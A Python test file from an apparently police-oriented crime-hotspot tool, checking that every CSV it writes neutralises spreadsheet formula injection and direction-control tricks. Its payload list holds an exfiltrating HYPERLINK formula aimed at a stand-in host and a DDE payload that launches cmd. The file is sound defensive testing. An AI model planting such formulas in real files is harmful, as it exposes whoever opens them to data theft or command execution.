"""Spreadsheet formulas never run from a CSV the product writes (issue 10 item 4).

Every CSV goes through :func:`hotspots.core.io.write_csv`. Here formula payloads (OWASP "CSV
injection": cells starting ``= + - @``, tab or carriage return) are put in every text field
that reaches each CSV, the file is parsed back with the standard library's ``csv`` reader,
and every cell is checked: a payload comes out as ``'`` + the payload, no other cell starts
with a formula character unless it is a negative number, and negative numbers in numeric
columns read back as numbers. The last test enumerates the CSV writes in the source, so a new
CSV that bypasses the one writer fails here.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import re
from pathlib import Path
from types import SimpleNamespace

import geopandas as gpd
import numpy as np
import pandas as pd
import pytest
import shapely

from hotspots import store
from hotspots.analysis.analyse import analyse
from hotspots.core.io import FORMULA_START, spreadsheet_safe, write_csv
from hotspots.data import datasets
from hotspots.data.schema import BNG, incidents_from_xy
from hotspots.products import measures
from hotspots.products.cctv import sheet_csv, tasking_sheet
from hotspots.products.patrol import PatrolPlan, patrol_plan, to_csv
from hotspots.views.cli import main
from hotspots.views.dashboard import page_areas, page_data, page_patrol
from hotspots.views.outputs import write_analysis

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=cmd|' /C calc'!A0",
    "\r=1+1",
]
"""Formula payloads (OWASP CSV injection), one per dangerous leading character."""

ROOT = Path(__file__).resolve().parents[1]


def cells_of(raw: bytes) -> list[list[str]]:
    """Rows of a CSV file as the standard library reads them (a UTF-8 BOM tolerated)."""
    text = raw.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_spreadsheet_safe(raw: bytes, *, payloads: list[str] = PAYLOADS) -> list[list[str]]:
    """Every cell safe; every payload present, neutralised. Returns the rows."""
    rows = cells_of(raw)
    flat = [cell for row in rows for cell in row]
    for cell in flat:
        if cell.startswith("-"):
            float(cell)  # only a negative number may start with "-"
        else:
            assert not cell.startswith(FORMULA_START), f"formula cell {cell!r}"
    for payload in payloads:
        assert any(c == "'" + payload or c.startswith("'" + payload) for c in flat), payload
        assert payload not in flat
    return rows


def numeric_column(raw: bytes, column: str) -> pd.Series:
    back = pd.read_csv(io.BytesIO(raw), encoding="utf-8-sig")
    assert pd.api.types.is_numeric_dtype(back[column]), back[column].head()
    return back[column]


# --------------------------------------------------------------------------- the writer


def test_the_writer_neutralises_text_and_leaves_numbers() -> None:
    frame = pd.DataFrame(
        {
            "text": PAYLOADS,
            "lon": [-0.47, -1.5, 2.0, -3.25, 0.0, -1e-7],
            "change": [-2, -1, 0, 1, 2, -30],
            "mixed": [-5, "-5", None, "safe", 1.5, "=1"],
            "label": pd.Categorical(["@x", "ok", "ok", "+y", "ok", "ok"]),
        }
    )
    raw = write_csv(frame)
    rows = assert_spreadsheet_safe(raw)
    assert rows[1][0] == "'" + PAYLOADS[0] and rows[1][1] == "-0.47"
    assert [r[3] for r in rows[1:]] == ["-5", "'-5", "", "safe", "1.5", "'=1"]
    assert [r[4] for r in rows[1:3]] == ["'@x", "ok"]
    assert numeric_column(raw, "lon").tolist() == frame["lon"].tolist()
    assert numeric_column(raw, "change").tolist() == frame["change"].tolist()
    by_rows = write_csv([[p, -0.5] for p in PAYLOADS], columns=["=head", "n"])
    assert cells_of(by_rows)[0] == ["'=head", "n"]
    assert_spreadsheet_safe(by_rows)
    assert numeric_column(by_rows, "n").eq(-0.5).all()
    assert spreadsheet_safe("Hemel -2") == "Hemel -2" and spreadsheet_safe("") == ""


def test_the_writer_writes_the_same_bytes_to_a_path(tmp_path: Path) -> None:
    raw = write_csv(pd.DataFrame({"a": ["=1"]}), tmp_path / "a.csv", bom=True)
    assert (tmp_path / "a.csv").read_bytes() == raw and raw.startswith(b"\xef\xbb\xbf")


# --------------------------------------------------------------------------- ward table


def _ward_fixture() -> tuple[gpd.GeoDataFrame, gpd.GeoDataFrame]:
    """Six square wards named by the payloads; more incidents last month than this month."""
    origin = np.array([505_000.0, 207_000.0])
    boxes = [
        shapely.box(*(origin + np.array([i * 500, 0])), *(origin + np.array([i * 500 + 500, 500])))
        for i in range(6)
    ]
    wards = gpd.GeoDataFrame(
        {"area_code": [f"W{i}" for i in range(6)], "area_name": PAYLOADS},
        geometry=boxes,
        crs=BNG,
    ).to_crs(4326)
    parts = []
    for i in range(6):
        for month, n in (("2021-05-01", 12 + i), ("2021-06-01", 6)):
            xy = origin + np.array([i * 500 + 250, 250]) + np.zeros((n, 2))
            part = incidents_from_xy(xy, "Burglary", month=month, location=PAYLOADS[i])
            part["ward_code"] = f"W{i}"
            parts.append(part)
    incidents = pd.concat(parts, ignore_index=True)
    incidents["incident_id"] = np.arange(len(incidents)).astype(str)
    return gpd.GeoDataFrame(incidents, crs=parts[0].crs), wards


def test_ward_table_for_the_minutes() -> None:
    incidents, wards = _ward_fixture()
    table = measures.ward_table(incidents, wards, None, current=("2021-06", "2021-06"))
    raw = page_areas.ward_csv(table)
    assert_spreadsheet_safe(raw)
    change = numeric_column(raw, "change_vs_previous")
    assert (change < 0).all()  # every ward fell: negative numbers stay numbers


def test_survey_template_download() -> None:
    assert_spreadsheet_safe(write_csv(page_areas._TEMPLATE), payloads=[])


# --------------------------------------------------------------------------- quarantine


def test_quarantine_csv_of_the_command_and_the_dashboard(tmp_path: Path) -> None:
    rows = [
        ["id", "when", "type", "lat", "lon", "where"],
        *[
            [f"ok{i}", "2021-06-01 10:00", "Burglary", "51.75", "-0.47", "High St"]
            for i in range(3)
        ],
        *[
            [f"bad{i}", "not a date", "Burglary", "51.75", "-0.47", p]
            for i, p in enumerate(PAYLOADS)
        ],
        # an unknown crime type from an exact-coordinate source is sensitive: the quarantine
        # keeps its line and reason but none of its values (disclosure rule 4)
        ["odd", "not a date", PAYLOADS[0], "51.75", "-0.47", "Victim Close"],
    ]
    source = tmp_path / "log.csv"
    with source.open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows(rows)
    columns = tmp_path / "map.json"
    columns.write_text(
        '{"incident_id": "id", "datetime": "when", "crime_type": "type", "lat": "lat", '
        '"lon": "lon", "location": "where"}'
    )
    out = tmp_path / "out.parquet"
    assert main(["ingest", str(source), "--columns", str(columns), "--out", str(out)]) == 0
    raw = (tmp_path / "out.quarantine.csv").read_bytes()
    assert_spreadsheet_safe(raw)
    quarantine = pd.read_csv(io.BytesIO(raw))
    assert len(quarantine) == len(PAYLOADS) + 1
    assert b"Victim Close" not in raw and quarantine["line"].max() == len(rows)
    from hotspots.data.ingest import ColumnMap, read_incident_csv

    loaded = read_incident_csv(
        source,
        ColumnMap(incident_id="id", datetime="when", crime_type="type", lat="lat", lon="lon",
                  location="where"),
    )  # fmt: skip
    dashboard = page_data._quarantine_csv(
        "csv-safety", _ds=SimpleNamespace(quarantine=loaded.quarantine)
    )
    assert_spreadsheet_safe(dashboard)
    assert b"Victim Close" not in dashboard


# --------------------------------------------------------------------------- patrol plan


@pytest.fixture(scope="module")
def plan(dacorum_load) -> PatrolPlan:
    plan = patrol_plan(
        dacorum_load.incidents,
        study_area=datasets.DACORUM,
        period=("2021-10", "2021-12"),
        top=3,
        run_backtest=False,
    )
    localities = plan.localities.copy()
    for column, payload in zip(("name", "street", "ward", "crime_mix"), PAYLOADS, strict=False):
        localities[column] = payload
    localities["peak_days"] = PAYLOADS[4]
    localities["dosage"] = PAYLOADS[5]
    return dataclasses.replace(plan, localities=localities)


def test_patrol_plan_csv_and_its_dashboard_download(plan: PatrolPlan, tmp_path: Path) -> None:
    for raw in (to_csv(plan, tmp_path / "plan.csv"), page_patrol.plan_file(plan, "csv")):
        assert_spreadsheet_safe(raw)
        lon = numeric_column(raw, "centre_lon")
        assert (lon < 0).all()  # Dacorum lies west of Greenwich: negative degrees, as numbers


# --------------------------------------------------------------------------- analysis outputs


def test_cluster_cell_and_temporal_csvs(dacorum_load, tmp_path: Path) -> None:
    incidents = dacorum_load.incidents.copy()
    incidents["location"] = np.array(PAYLOADS, dtype=object)[np.arange(len(incidents)) % 6]
    written = write_analysis(analyse(incidents, study_area=datasets.DACORUM), tmp_path)
    csvs = {name: path for name, path in written.items() if name.endswith(".csv")}
    assert {"clusters.csv", "monthly.csv", "peaks.csv"} <= set(csvs)
    clusters = csvs.pop("clusters.csv").read_bytes()
    rows = cells_of(clusters)
    places = [r[rows[0].index("top_locations")] for r in rows[1:]]
    assert all(p.startswith("'") for p in places)  # each list of places starts with a payload
    assert_spreadsheet_safe(clusters, payloads=[])
    for path in csvs.values():
        assert_spreadsheet_safe(path.read_bytes(), payloads=[])


# --------------------------------------------------------------------------- CCTV, store


def test_cctv_tasking_sheet_csv(tmp_path: Path) -> None:
    origin = np.array([500_000.0, 200_000.0])
    incidents = incidents_from_xy(origin + [[20.0, 0.0]] * 6, "Burglary")
    lon, lat = gpd.points_from_xy([origin[0]], [origin[1]], crs=BNG).to_crs(4326)[0].coords[0]
    cameras = pd.DataFrame(
        [
            {"camera_id": PAYLOADS[0], "name": PAYLOADS[1], "location": PAYLOADS[2],
             "type": "fixed", "range_m": 100.0, "bearing_deg": 90.0, "fov_deg": 60.0,
             "lon": lon, "lat": lat, "status": "active"}
        ]
    )  # fmt: skip
    hotspots = gpd.GeoDataFrame(
        {"cluster": [PAYLOADS[3]]}, geometry=[shapely.box(-1, 50, 1, 53)], crs=4326
    )
    sheet = tasking_sheet(incidents, cameras, hotspots)
    sheet.note = PAYLOADS[4]  # the note column carries text too
    raw = sheet_csv(sheet, tmp_path / "sheet.csv")
    assert (tmp_path / "sheet.csv").read_bytes() == raw
    assert_spreadsheet_safe(raw, payloads=PAYLOADS[:5])


@pytest.fixture
def populated(tmp_path: Path):
    engine = store.open_store(f"sqlite:///{tmp_path / 'store.sqlite'}")
    store.add_walkabout(
        engine,
        {"walkabout_id": PAYLOADS[0], "date": "2021-11-18", "area": PAYLOADS[1],
         "organiser": PAYLOADS[2], "agencies": PAYLOADS[3], "participants": 3},
    )  # fmt: skip
    for n, payload in enumerate(PAYLOADS):
        store.add_feedback(
            engine,
            {"feedback_id": f"FB-{n}", "walkabout_id": PAYLOADS[0], "lon": -0.47 - n / 1e4,
             "lat": 51.75, "reason": "no_cctv", "comment": payload, "severity": 3},
        )  # fmt: skip
    store.add_camera(
        engine,
        {"camera_id": "CAM-1", "name": PAYLOADS[4], "location": PAYLOADS[5], "type": "fixed",
         "range_m": 60, "bearing_deg": 90, "fov_deg": 60, "lon": -0.468, "lat": 51.75},
    )  # fmt: skip
    yield engine
    engine.dispose()


def test_store_export_with_spreadsheet_safe(populated) -> None:
    for kind in ("walkabouts", "feedback", "cameras"):
        safe = store.export_records(populated, kind, fmt="csv", spreadsheet_safe=True)
        rows = assert_spreadsheet_safe(safe, payloads=[])
        assert any(cell.startswith("'") for row in rows for cell in row), kind
    feedback = store.export_records(populated, "feedback", fmt="csv", spreadsheet_safe=True)
    assert_spreadsheet_safe(feedback)
    assert (numeric_column(feedback, "lon") < 0).all()
    backup = store.export_records(populated, "feedback", fmt="csv")  # verbatim, for re-import
    assert "=HYPERLINK" in cells_of(backup)[1][cells_of(backup)[0].index("walkabout_id")]


# --------------------------------------------------------------------------- every CSV write

ALLOWED = {
    "hotspots/core/io.py": "the one writer",
    "hotspots/demo/generate.py": "writes the bundled demo input files (generated text only)",
    "hotspots/national/generate.py": "writes synthetic police.uk input files, verbatim",
}
_CSV_WRITE = re.compile(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(")


def test_every_csv_write_goes_through_the_one_writer() -> None:
    offenders = []
    for path in sorted((ROOT / "hotspots").rglob("*.py")):
        name = path.relative_to(ROOT).as_posix()
        if name in ALLOWED:
            continue
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
            if _CSV_WRITE.search(line) and not line.lstrip().startswith((">>>", "#")):
                offenders.append(f"{name}:{number}: {line.strip()}")
    assert offenders == []


def test_direction_controls_never_disguise_a_cell() -> None:
    # U+202E shows "Victim Road" reversed: a name disguised as another in a spreadsheet
    text = ["On or near \u202edaoR mitciV", "Marlowes\u2066", "=x\u202e"]
    for frame in (pd.DataFrame({"t": text}), pd.DataFrame({"t": pd.array(text, dtype="str")})):
        rows = cells_of(write_csv(frame))
        assert [r[0] for r in rows[1:]] == ["On or near daoR mitciV", "Marlowes", "'=x"]
    assert cells_of(write_csv([[t] for t in text], columns=["t"]))[3] == ["'=x"]
